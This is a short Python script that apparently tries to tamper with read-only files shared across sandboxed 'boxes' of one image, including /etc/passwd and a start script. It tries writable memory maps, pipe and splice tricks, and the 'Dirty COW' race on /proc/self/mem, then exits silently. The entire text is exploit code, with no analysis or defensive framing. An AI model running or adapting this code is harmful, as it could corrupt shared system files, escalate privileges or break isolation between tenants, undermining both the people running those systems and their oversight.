# Writes into pages of files that all boxes of one image share: mapped, through its own memory, by pipes, by a race ("Dirty COW").
import ctypes
import mmap
import os
import threading

WORD = b"# changed by the last one"
libc = ctypes.CDLL(None)
for path in ("/opt/box/start.py", os.__file__, "/etc/passwd", "/usr/lib/os-release"):
    try:
        fd = os.open(path, os.O_RDONLY)
    except OSError:
        continue
    for flags, protection in ((mmap.MAP_SHARED, mmap.PROT_WRITE | mmap.PROT_READ), (mmap.MAP_PRIVATE, mmap.PROT_WRITE | mmap.PROT_READ)):
        try:
            mmap.mmap(fd, 64, flags, protection)[: len(WORD)] = WORD
        except OSError:
            pass
    private = mmap.mmap(fd, 64, mmap.MAP_PRIVATE, mmap.PROT_READ)
    reading, writing = os.pipe()
    for move in (lambda: os.sendfile(writing, fd, 0, 1), lambda: libc.splice(fd, None, writing, None, 1, 0), lambda: os.write(writing, WORD)):
        try:
            move()
        except OSError:
            pass

    def race():
        for _ in range(2000):
            private.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=race)
    thread.start()
    try:
        with open("/proc/self/mem", "r+b", 0) as memory, open("/proc/self/maps") as maps:
            begin = next(int(line.split("-")[0], 16) for line in maps if path in line and "r--p" in line)
            for _ in range(500):
                memory.seek(begin)
                memory.write(WORD)
    except (OSError, StopIteration):
        pass
    thread.join()
os._exit(0)
